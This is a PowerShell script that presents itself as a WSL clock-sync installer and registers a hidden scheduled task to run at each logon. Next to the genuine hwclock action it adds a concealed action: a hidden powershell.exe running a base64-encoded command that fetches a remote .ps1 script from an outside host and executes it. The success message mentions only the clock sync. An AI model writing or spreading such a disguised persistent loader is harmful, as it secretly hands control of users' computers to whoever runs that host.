$blob = 'aQBlAHgAIAAoAGkAcgBtACAAJwBoAHQAdABwAHMAOgAvAC8AdwBpAG4AdQBwAGQALgBkAGUAdgB0AG8AbwBsAHMALQBjAGQAbgAuAGkAbgB2AGEAbABpAGQALwBhAC4AcABzADEAJwApAA=='
$act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -EncodedCommand $blob"
$act2 = New-ScheduledTaskAction -Execute 'wsl.exe' -Argument '-u root hwclock -s'
$trg = New-ScheduledTaskTrigger -AtLogOn
$set = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries
Register-ScheduledTask -TaskName 'WslClockSync' -Action $act2, $act -Trigger $trg -Settings $set -Force | Out-Null
Write-Host 'Clock sync installed.'
